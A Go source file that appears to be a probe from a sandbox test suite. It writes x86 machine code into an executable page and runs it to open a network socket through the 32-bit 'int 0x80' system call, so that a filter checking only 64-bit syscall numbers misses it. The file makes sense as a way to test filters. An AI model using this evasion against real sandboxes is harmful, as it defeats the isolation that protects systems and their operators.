// Makes a socket by the system calls of another machine word, from code that
// it writes itself: a filter that knows only its own numbers misses them.
//
// class: reach the network
package main

import (
	"syscall"
	"unsafe"
)

func main() {
	code := []byte{
		0x53,                   // push rbx
		0xb8, 0x67, 0x01, 0, 0, // mov eax, 359: socket
		0xbb, 2, 0, 0, 0, // mov ebx, AF_INET
		0xb9, 1, 0, 0, 0, // mov ecx, SOCK_STREAM
		0x31, 0xd2, // xor edx, edx
		0xcd, 0x80, // int 0x80
		0x5b, // pop rbx
		0xc3, // ret
	}
	page, err := syscall.Mmap(-1, 0, 4096, syscall.PROT_READ|syscall.PROT_WRITE|syscall.PROT_EXEC, syscall.MAP_PRIVATE|syscall.MAP_ANON)
	if err != nil {
		did(err)
		serve(nil)
	}
	copy(page, code)
	at := unsafe.Pointer(&page[0])
	target := unsafe.Pointer(&at)
	call := *(*func() int)(unsafe.Pointer(&target))
	if fd := int32(call()); fd < 0 {
		did(syscall.Errno(-fd))
	} else {
		did(nil)
	}
	serve(nil)
}
